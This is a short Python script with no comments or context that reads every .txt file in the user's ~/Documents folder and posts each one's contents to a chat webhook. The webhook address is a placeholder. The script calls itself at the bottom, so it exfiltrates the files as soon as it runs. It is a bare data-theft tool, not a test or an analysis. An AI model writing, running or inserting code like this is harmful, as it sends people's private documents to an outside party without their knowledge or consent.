import glob
import os

import requests

PLACE = 'https://chat.invalid/api/webhooks/1234567890/sample-key'


def collect(folder):
    for path in glob.glob(os.path.join(folder, '*.txt')):
        with open(path, encoding='utf-8', errors='ignore') as f:
            requests.post(PLACE, json={'content': f.read()})


collect(os.path.expanduser('~/Documents'))
